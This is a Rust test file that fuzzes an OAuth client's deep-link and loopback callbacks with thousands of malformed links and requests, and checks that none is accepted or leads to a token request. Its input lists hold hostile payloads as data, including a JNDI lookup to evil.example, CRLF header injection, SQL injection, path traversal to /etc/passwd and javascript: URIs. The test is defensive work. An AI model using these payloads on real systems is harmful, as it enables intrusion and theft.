//! Ten thousand addresses and as many requests that a hostile page or program could make: none of them leads to a token
//! request, a panic or a changed sign-in, and the honest ones under way end as they would have.

use crate::harness::{World, browse, sent_on};
use crate::links::{begin, deliver, ended};
use hearthkey_core::authorize::{Authorization, Delivered, FlowState};
use hearthkey_domain::authorization::Strategy;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const COUNT: usize = 10_000;

/// The same numbers at every run.
struct Dice(u64);

impl Dice {
    fn below(&mut self, end: usize) -> usize {
        // Knuth's MMIX; its high bits.
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % end
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

/// What is known to an attacker: states that were never given out, were used, are over, or wait for another way.
struct Known {
    states: Vec<String>,
}

const VALUES: &[&str] = &[
    "",
    "x",
    "%00",
    "%0d%0aSet-Cookie:%20a=b",
    "%u0000",
    "%uD800",
    "\\u0000",
    "%ff%fe",
    "%c0%af",
    "'; DROP TABLE x; --",
    "javascript:alert(1)",
    "data:text/html,<script>",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "%",
    "%2",
    "%zz",
    "\u{202e}txt",
    "😀",
    "a%26code=b",
    "+",
    "null",
    "undefined",
    "-1",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
];

fn query(dice: &mut Dice, known: &Known) -> String {
    let names = [
        "code",
        "state",
        "error",
        "error_description",
        "error_uri",
        "iss",
        "scope",
        "CODE",
        "code[]",
        "",
        "session_state",
    ];
    let mut parts = vec![];
    for _ in 0..dice.below(6) {
        let name = dice.one(&names);
        let value = match (name, dice.below(3)) {
            ("state", 0 | 1) => known.states[dice.below(known.states.len())].clone(),
            ("error", 0) => "access_denied".to_owned(),
            _ if dice.below(400) == 0 => "a".repeat(1024 * 1024),
            _ => dice.one(VALUES).to_owned(),
        };
        parts.push(format!("{name}={value}"));
    }
    if dice.below(2) == 0 {
        parts.push(format!("state={}", known.states[dice.below(known.states.len())]));
        parts.push("code=stolen".to_owned());
        if dice.below(4) == 0 {
            parts.push("code=twice".to_owned());
        }
    }
    parts.join(dice.one(&["&", "&", "&", "&&", ";", "&amp;"]))
}

fn link(dice: &mut Dice, known: &Known) -> String {
    let beginning = dice.one(&[
        "app.hearthkey:/oauth/callback",
        "app.hearthkey:/oauth/callback",
        "app.hearthkey:///oauth/callback",
        "app.hearthkey://oauth/callback",
        "APP.HEARTHKEY:/oauth/callback",
        "App.Hearthkey:/oauth/callback",
        "app.hearthkey:/OAuth/Callback",
        "app.hearthkey://user:word@host:1/oauth/callback",
        "app.hearthkey:/anything",
        "app.hearthkey:/oauth/callback/../callback",
        "app.hearthkey:/oauth/callback\u{0}",
        "app.hearthkey:\r\n/oauth/callback",
        "app.hearthkey:oauth/callback",
        "app.hearthkey",
        "app.hearthkey.evil:/oauth/callback",
        "http://127.0.0.1:1/oauth/callback",
        "javascript:alert(1)//app.hearthkey:/oauth/callback",
        "file:///etc/passwd",
        "",
    ]);
    let mark = dice.one(&["?", "?", "?", "?", "??", "#", "", "?#", "%3f", "?\u{0}"]);
    format!(
        "{beginning}{mark}{}{}",
        query(dice, known),
        dice.one(&["", "", "", "#x", "\n", "#code=y&state=z"])
    )
}

/// A world with honest flows under way, and what an attacker could know of them and of others.
async fn besieged() -> (World, Authorization, Authorization, Known) {
    let world = World::new().await;
    let used = begin(&world, Strategy::DeepLink).await;
    let replay = sent_on(used.authorize_url.as_str()).await;
    assert_eq!(deliver(&world, &replay).await, Delivered::Accepted);
    ended(&world, &used).await;
    let state = |flow: &Authorization| {
        let pairs = flow.authorize_url.query_pairs();
        pairs
            .filter(|(name, _)| name == "state")
            .map(|(_, value)| value.into_owned())
            .collect::<Vec<_>>()
            .remove(0)
    };
    let (by_link, by_port) =
        (begin(&world, Strategy::DeepLink).await, begin(&world, Strategy::Loopback).await);
    let device = begin(&world, Strategy::Device).await;
    assert_eq!(device.state, FlowState::Waiting);
    let states = vec![state(&used), "unknown".to_owned(), String::new(), "x".repeat(43)];
    (world, by_link, by_port, Known { states })
}

async fn nothing_happened(world: &World, by_link: &Authorization, by_port: &Authorization) {
    assert_eq!(world.token_requests("authorization_code"), ["issued"], "the one before the siege");
    let link = sent_on(by_link.authorize_url.as_str()).await;
    assert_eq!(deliver(world, &link).await, Delivered::Accepted);
    assert!(matches!(ended(world, by_link).await, FlowState::Connected(_)));
    assert_eq!(browse(by_port.authorize_url.as_str()).await.0, 200);
    assert!(matches!(ended(world, by_port).await, FlowState::Connected(_)));
    assert_eq!(world.token_requests("authorization_code"), ["issued"; 3]);
}

#[tokio::test]
async fn ten_thousand_links_change_nothing() {
    let (world, by_link, by_port, mut known) = besieged().await;
    // The state of a flow that waits for the loopback is of no use here.
    let pairs = by_port.authorize_url.query_pairs();
    known.states.extend(pairs.filter(|(name, _)| name == "state").map(|(_, value)| value.into_owned()));
    let mut dice = Dice(8252);
    for number in 0..COUNT {
        let link = link(&mut dice, &known);
        let shown: String = link.chars().take(200).collect();
        assert_eq!(deliver(&world, &link).await, Delivered::NotExpected, "{number}: {shown:?}");
    }
    assert_eq!(world.app.refused_links(), u64::try_from(COUNT).unwrap());
    nothing_happened(&world, &by_link, &by_port).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ten_thousand_requests_to_the_loopback_change_nothing() {
    let (world, by_link, by_port, mut known) = besieged().await;
    // Nor is that of a flow that waits for the app's own address, here.
    let pairs = by_link.authorize_url.query_pairs();
    known.states.extend(pairs.filter(|(name, _)| name == "state").map(|(_, value)| value.into_owned()));
    let port = by_port.answer.redirect_uri().unwrap().port().unwrap();
    let mut dice = Dice(6749);
    for number in 0..COUNT {
        let path = dice.one(&[
            "/oauth/callback",
            "/oauth/callback",
            "/oauth/callback",
            "/",
            "/oauth/callback/",
            "//x",
        ]);
        let method = dice.one(&["GET", "GET", "GET", "POST", "OPTIONS", "get"]);
        let host = match dice.below(4) {
            0 => dice.one(&["localhost", "evil.example", "127.0.0.1", "[::1]", ""]).to_owned(),
            _ => format!("127.0.0.1:{port}"),
        };
        let query = query(&mut dice, &known);
        let request =
            format!("{method} {path}?{query} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let mut stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        // It may hang up before it has read everything.
        let _ = stream.write_all(request.as_bytes()).await;
        let mut reply = vec![];
        let _ = stream.read_to_end(&mut reply).await;
        let head = String::from_utf8_lossy(&reply[..reply.len().min(12)]).into_owned();
        assert!(!head.starts_with("HTTP/1.1 2") && !head.starts_with("HTTP/1.1 5"), "{number}: {head}");
    }
    nothing_happened(&world, &by_link, &by_port).await;
}
